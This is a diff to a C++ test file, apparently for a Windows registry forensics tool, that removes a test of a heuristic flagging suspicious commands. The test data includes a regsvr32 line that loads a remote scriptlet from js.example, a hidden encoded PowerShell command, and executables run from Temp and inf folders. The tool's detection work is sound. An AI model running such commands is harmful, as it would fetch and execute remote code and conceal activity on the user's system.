@@ -320,20 +320,6 @@ TEST(WindowsRegistry, AutorunsServicesAndNetworkSettings) {
   EXPECT_EQ(all, expected);
 }
 
-TEST(WindowsRegistry, WhatADropperCommandLooksLike) {
-  using detect::heuristics::suspicious_windows_command;
-  EXPECT_EQ(suspicious_windows_command("C:\\Windows\\inf\\aspnet\\lsmose.exe"), "runs from C:\\Windows\\inf");
-  EXPECT_EQ(suspicious_windows_command("powershell -nop -w hidden -enc SQBFAFgA"), "PowerShell with an encoded command");
-  EXPECT_EQ(suspicious_windows_command("regsvr32 /u /s /i:http://js.example/v.sct scrobj.dll"),
-            "regsvr32 running a remote scriptlet (Squiblydoo)");
-  EXPECT_EQ(suspicious_windows_command("C:\\Windows\\Temp\\svchost.exe"), "runs from C:\\Windows\\Temp");
-  // Ordinary places and Microsoft's own ProgramData folder are not.
-  for (auto ok : {"%SystemRoot%\\System32\\svchost.exe -k netsvcs", "\"C:\\Program Files\\App\\app.exe\" /min",
-                  "\"C:\\ProgramData\\Microsoft\\Windows Defender\\platform\\4.18\\MsMpEng.exe\"",
-                  "C:\\Windows\\system32\\lsass.exe", "svchost.exe"})
-    EXPECT_EQ(suspicious_windows_command(ok), "") << ok;
-}
-
 // The public hives are classified by their keys, and their autoruns read.
 TEST(WindowsRegistryCorpus, PublicHivesAreClassified) {
   const fs::path root = fs::path(MSW_CORPUS_DIR) / "windows/plaso";
